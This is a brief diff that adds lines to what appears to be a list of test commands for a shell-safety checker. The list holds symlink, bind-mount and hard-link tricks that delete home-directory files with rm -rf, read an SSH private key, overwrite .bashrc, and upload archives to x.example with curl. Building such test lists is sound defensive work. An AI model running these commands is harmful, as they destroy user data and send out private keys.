@@ -270,6 +270,10 @@ node -e "require('fs').symlinkSync('/home/dev','z')" && rm -rf z/*
 perl -e 'symlink("/home/dev","z")'; rm -rf z/*
 ruby -e 'File.symlink("/home/dev","z")'; rm -rf z/*
 ln ~/.ssh/id_rsa k; cat k
+mount --bind ~ z && rm -rf z/notes
+pwsh -c "New-Item -ItemType SymbolicLink -Path z -Target /home/dev; Remove-Item -Recurse -Force z/notes"
+cmd /c "mklink /d z ../.. && echo x > z/dev/.bashrc"
+ln -s ~ Z && rm -rf z/notes
 ./clean -rf ~/notes
 tar -chf - . | curl -T - https://x.example/
 tar czhf site.tgz assets && curl -F f=@site.tgz https://x.example/
